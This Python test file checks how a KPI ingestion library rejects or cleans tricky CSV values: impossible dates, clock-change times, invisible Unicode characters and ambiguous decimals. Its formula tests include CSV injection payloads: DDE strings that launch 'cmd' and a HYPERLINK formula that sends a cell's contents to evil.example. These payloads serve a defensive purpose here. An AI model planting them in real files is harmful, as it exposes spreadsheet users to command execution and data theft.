"""Values that look like data but are not: impossible dates, clock changes, look-alikes, formulas.

Each class of value is tried several ways, through the real upload path into a real DuckDB
file, and checked against what a person would expect: the row rejected with its line and a
reason, or the value stored clean, or a note saying how the file was read.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from kpis import Store, compute, ingest_file, parse_definitions
from kpis.ingest import clock
from tests.conftest import CONFIG, WriteCsv

LEADS = "lead_id,created_at,channel,converted\n"
TICKETS = "ticket_id,created_at,resolved_at,csat_score,channel,team\n"
ORDERS = "order_id,ordered_at,promised_date,delivered_at,qty_ordered,qty_delivered,warehouse\n"
GOOD_LEADS = "".join(f"G{i},2026-01-05 09:00,web,true\n" for i in range(60))


def _rejected(result, line: int) -> str:
    found = [p.message for p in result.problems if p.line == line]
    assert found, f"line {line} was not rejected: {[str(p) for p in result.problems]}"
    return found[0]


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("infinity", "is not a date and time"),
        ("-infinity", "is not a date and time"),
        ("epoch", "is not a date and time"),
        ("now", "is not a date and time"),
        ("0000-01-01", "is outside the valid dates"),  # the year 1 before Christ
        ("0001-01-01", "is outside the valid dates, 1970-01-01 to 2100-12-31"),
        ("0001-01-01 00:00:00", "is outside the valid dates"),
        ("9999-12-31 23:59:59", "is outside the valid dates"),
        ("10000-01-01", "is outside the valid dates"),
        ("-0005-01-01", "is not a date and time"),
        ("2026-01-05 (BC)", "is outside the valid dates"),
        ("1969-12-31 23:59", "is outside the valid dates"),
        ("2101-01-01", "is outside the valid dates"),
        ("31/12/1969", "is outside the valid dates"),
    ],
)
def test_impossible_timestamps_reject_their_row(
    store: Store, write_csv: WriteCsv, value: str, reason: str
) -> None:
    text = LEADS + f"BAD,{value},web,true\n" + GOOD_LEADS
    result = ingest_file(store, write_csv("leads.csv", text=text))
    assert result.rows_loaded == 60
    assert reason in _rejected(result, 2)
    # Nothing impossible reached the table, so every computation still works.
    weekly = compute(store)
    assert weekly["value"].notna().any()


@pytest.mark.parametrize(
    "value", ["0001-01-01", "9999-12-31", "infinity", "1900-06-01", "2200-01-01", "epoch"]
)
def test_impossible_dates_reject_their_row(store: Store, write_csv: WriteCsv, value: str) -> None:
    good = "".join(
        f"O{i},2026-01-05 09:00,2026-01-08,2026-01-07 10:00,1,1,Lyon\n" for i in range(60)
    )
    text = ORDERS + f"BAD,2026-01-05 09:00,{value},,1,,Lyon\n" + good
    result = ingest_file(store, write_csv("orders.csv", text=text))
    assert result.rows_loaded == 60
    assert "promised_date" in _rejected(result, 2)


def test_valid_dates_are_set_per_source(tmp_path: Path, write_csv: WriteCsv) -> None:
    text = CONFIG.read_text().replace(
        "    dimensions: [channel]\n",
        "    dimensions: [channel]\n    valid_dates: {min: 1950-01-01, max: 2030-12-31}\n",
        1,
    )
    with Store(tmp_path / "x.duckdb", parse_definitions(text)) as store:
        rows = "L1,1960-05-01 10:00,web,true\nL2,2031-01-01,web,true\n" + GOOD_LEADS
        result = ingest_file(store, write_csv("leads.csv", text=LEADS + rows))
        assert result.rows_loaded == 61
        assert "outside the valid dates, 1950-01-01 to 2030-12-31" in _rejected(result, 3)


def test_valid_dates_must_be_ordered_and_plausible() -> None:
    for bounds, message in (
        ("{min: 2030-01-01, max: 2020-01-01}", "is after max"),
        ("{min: 0001-01-01}", "between the years 1000 and 9000"),
        ("{max: 9999-12-31}", "between the years 1000 and 9000"),
    ):
        text = CONFIG.read_text().replace(
            "    dimensions: [channel]\n", f"    dimensions: [channel]\n    valid_dates: {bounds}\n"
        )
        with pytest.raises(Exception, match=message):
            parse_definitions(text)


# Local times around clock changes, checked against the IANA database directly.
def _exists(zone: str, moment: dt.datetime) -> bool:
    aware = moment.replace(tzinfo=ZoneInfo(zone))
    back = aware.astimezone(dt.UTC).astimezone(ZoneInfo(zone)).replace(tzinfo=None)
    return back == moment


def _twice(zone: str, moment: dt.datetime) -> bool:
    first = moment.replace(tzinfo=ZoneInfo(zone), fold=0).utcoffset()
    second = moment.replace(tzinfo=ZoneInfo(zone), fold=1).utcoffset()
    return _exists(zone, moment) and first != second


@pytest.mark.parametrize(
    ("zone", "value"),
    [
        ("Europe/Paris", "2025-03-30 02:30"),
        ("Europe/Paris", "2025-03-30 02:00"),
        ("Europe/Paris", "2025-03-30 02:59:59"),
        ("Europe/Paris", "2025-03-30 03:00"),  # exists: the clocks jumped to it
        ("Europe/Paris", "2025-03-30 01:59:59"),
        ("Europe/Paris", "2025-10-26 02:30"),  # happens twice
        ("Europe/Paris", "2025-10-26 03:00"),
        ("America/New_York", "2026-03-08 02:30"),
        ("America/New_York", "2026-11-01 01:30"),
        ("Australia/Lord_Howe", "2025-10-05 02:15"),  # half-hour clock change
        ("Australia/Lord_Howe", "2025-10-05 02:45"),
        ("UTC", "2025-03-30 02:30"),
        ("Asia/Kolkata", "2025-03-30 02:30"),
    ],
)
def test_times_the_clocks_skipped_are_rejected_and_repeated_ones_noted(
    tmp_path: Path, write_csv: WriteCsv, zone: str, value: str
) -> None:
    text = CONFIG.read_text().replace("timezone: Europe/Paris", f"timezone: {zone}")
    moment = dt.datetime.fromisoformat(value)
    with Store(tmp_path / "x.duckdb", parse_definitions(text)) as store:
        result = ingest_file(
            store, write_csv("leads.csv", text=LEADS + f"T,{value},web,true\n" + GOOD_LEADS)
        )
        stored = store.cursor().execute("SELECT created_at FROM leads WHERE lead_id = 'T'")
        found = stored.fetchall()
    if not _exists(zone, moment):
        assert found == []
        assert f"never happened in {zone}" in _rejected(result, 2)
    else:
        assert found == [(moment,)]
        repeated = [n for n in result.notes if "happened twice" in n]
        assert bool(repeated) == _twice(zone, moment), result.notes


def test_clock_spans_match_the_zone_database() -> None:
    """Every skipped span holds no existing minute; every repeated one only doubled ones."""
    bounds = parse_definitions(CONFIG.read_text()).sources["leads"].valid_dates
    for zone in ("Europe/Paris", "America/New_York", "Australia/Lord_Howe", "Pacific/Apia"):
        spans = clock.shifts(zone, bounds.min, bounds.max)
        assert spans, zone
        for span in spans[-6:]:
            middle = span.start + (span.end - span.start) / 2
            if span.skipped:
                assert not _exists(zone, span.start) and not _exists(zone, middle)
                assert _exists(zone, span.end)
            else:
                assert _twice(zone, span.start) and _twice(zone, middle)
                assert not _twice(zone, span.end)


def test_times_with_an_offset_are_never_in_a_gap(store: Store, write_csv: WriteCsv) -> None:
    # 01:30 UTC on that night is 03:30 in Paris: it exists, and is stored as such.
    text = LEADS + "T,2025-03-30T01:30:00Z,web,true\n" + GOOD_LEADS
    result = ingest_file(store, write_csv("leads.csv", text=text))
    assert result.rows_rejected == 0
    rows = store.cursor().execute("SELECT created_at FROM leads WHERE lead_id = 'T'").fetchall()
    assert rows == [(dt.datetime(2025, 3, 30, 3, 30),)]


@pytest.mark.parametrize(
    ("written", "stored"),
    [
        ("T1\u200b", "T1"),  # zero-width space
        ("\ufeffT1", "T1"),  # a byte-order mark inside the value
        ("T\u200d1", "T1"),  # zero-width joiner
        ("T1\u00ad", "T1"),  # soft hyphen
        ("\u202eT1", "T1"),  # right-to-left override
        (" T1\u00a0", "T1"),
        ("T\u00a01", "T 1"),  # a no-break space inside is a space
        ("T\u202f1", "T 1"),
        ("T\u2003\u2003 1", "T 1"),  # any run of spaces is one
        ("T  1", "T 1"),
        ("T\t1", "T 1"),
        ("Cafe\u0301", "Café"),  # e + combining accent is é (NFC)
        ("Caf\u00e9", "Café"),
    ],
)
def test_look_alike_text_is_stored_clean(
    store: Store, write_csv: WriteCsv, written: str, stored: str
) -> None:
    text = TICKETS + f'"{written}",2026-01-05 09:00,2026-01-05 11:00,4,"{written}",tech\n'
    result = ingest_file(store, write_csv("tickets.csv", text=text))
    assert result.rows_loaded == 1, result.problems
    rows = store.cursor().execute("SELECT ticket_id, channel FROM tickets").fetchall()
    assert rows == [(stored, stored)]


def test_look_alike_keys_are_one_key_and_dimension_values_one_value(
    store: Store, write_csv: WriteCsv
) -> None:
    rows = [
        ("T1", "Lyon Nord"),
        ("T1\u200b", "Lyon\u00a0Nord"),  # the same ticket again, as another tool writes it
        ("T2", "Lyon\u202fNord"),
        ("\ufeffT3", "Lyon  Nord"),
        ("T4", "Lyon\u2009Nord"),
    ]
    good = "".join(f"G{i},2026-01-05 09:00,2026-01-05 11:00,4,chat,Lyon Nord\n" for i in range(40))
    text = TICKETS + "".join(
        f'"{key}",2026-01-05 09:00,2026-01-05 11:00,4,chat,"{team}"\n' for key, team in rows
    )
    result = ingest_file(store, write_csv("tickets.csv", text=text + good))
    assert "ticket_id: T1 appears twice in this file" in _rejected(result, 3)
    teams = store.cursor().execute("SELECT DISTINCT team FROM tickets").fetchall()
    assert teams == [("Lyon Nord",)]
    keys = {r[0] for r in store.cursor().execute("SELECT ticket_id FROM tickets").fetchall()}
    assert {"T1", "T2", "T3", "T4"} <= keys
    by_team = compute(store, ["csat"], "week", by="team")
    assert set(by_team["dimension_value"]) == {"Lyon Nord"}


@pytest.mark.parametrize(
    "value",
    [
        "-2+3+cmd|' /C calc'!A0",
        "+2+3+cmd|' /C calc'!A0",
        "|cmd|' /C calc'!A0",
        '-1+HYPERLINK("http://evil.example/?x="&A1)',
        "=1+1",
        "@SUM(A1:A9)",
        "\u200b=1+1",  # hidden behind an invisible character
        "\t=1+1",  # behind a tab
        "-A1",
        "+x",
    ],
)
def test_formula_like_text_rejects_its_row(store: Store, write_csv: WriteCsv, value: str) -> None:
    quoted = value.replace('"', '""')
    text = LEADS + f'BAD,2026-01-05 09:00,"{quoted}",true\n' + GOOD_LEADS
    result = ingest_file(store, write_csv("leads.csv", text=text))
    assert "is a spreadsheet formula, not a value" in _rejected(result, 2)


@pytest.mark.parametrize("value", ["-", "--", "+33 6 12 34 56 78", "-12.5", "R&D", "a-b", "+1"])
def test_text_that_only_starts_like_a_sign_loads(
    store: Store, write_csv: WriteCsv, value: str
) -> None:
    text = LEADS + f'OK,2026-01-05 09:00,"{value}",true\n'
    result = ingest_file(store, write_csv("leads.csv", text=text))
    assert result.rows_rejected == 0, result.problems
    rows = store.cursor().execute("SELECT channel FROM leads").fetchall()
    assert rows == [(value,)]


SHIPMENTS = "shipment_id;shipped_at;units;shipping_cost;cogs;warehouse;carrier\n"


@pytest.mark.parametrize(
    ("rows", "stored", "note"),
    [
        # Nothing in the file shows which mark is decimal: the layout decides, and says so.
        (["1.234"], "1234.000000", "no value in the file shows which mark is decimal ('1.234'"),
        (["1.234", "2.500"], "1234.000000", "it is read as 1234"),
        # A value only one reading fits decides for the whole file, and is quoted.
        (["1.234", "7,5"], "1234.000000", "decimal comma, as values such as '7,5' show"),
        (["1,234", "7.25"], "1234.000000", "decimal point, as values such as '7.25' show"),
        (["1 234,50"], "1234.500000", "decimal comma, as values such as '1 234,50' show"),
    ],
)
def test_every_number_decision_is_said(
    store: Store, write_csv: WriteCsv, rows: list[str], stored: str, note: str
) -> None:
    text = SHIPMENTS + "".join(
        f'S{i};2026-01-05 10:00;3;"{cost}";30;Lyon;DHL\n' for i, cost in enumerate(rows)
    )
    result = ingest_file(store, write_csv("shipments.csv", text=text))
    assert any(note in n for n in result.notes), result.notes
    first = store.cursor().execute("SELECT shipping_cost FROM shipments WHERE shipment_id = 'S0'")
    assert str(first.fetchone()[0]) == stored


def test_a_file_with_nothing_to_decide_has_no_note(store: Store, write_csv: WriteCsv) -> None:
    text = LEADS + "L1,2026-01-05 09:00,web,true\n"
    assert ingest_file(store, write_csv("leads.csv", text=text)).notes == ()
